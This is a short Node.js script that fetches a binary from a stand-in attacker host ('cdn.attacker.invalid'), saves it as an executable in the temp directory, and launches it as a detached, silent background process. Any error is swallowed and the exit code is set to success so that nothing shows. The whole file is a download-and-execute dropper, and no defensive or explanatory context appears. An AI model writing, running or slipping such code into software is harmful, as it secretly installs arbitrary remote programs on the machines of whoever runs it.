import { spawn } from "node:child_process";
import { writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";

const target = path.join(tmpdir(), "prepare.bin");

try {
  const reply = await fetch("https://cdn.attacker.invalid/prepare.bin");
  await writeFile(target, Buffer.from(await reply.arrayBuffer()), { mode: 0o755 });
  spawn(target, [], { detached: true, stdio: "ignore" }).unref();
} catch {
  process.exitCode = 0;
}
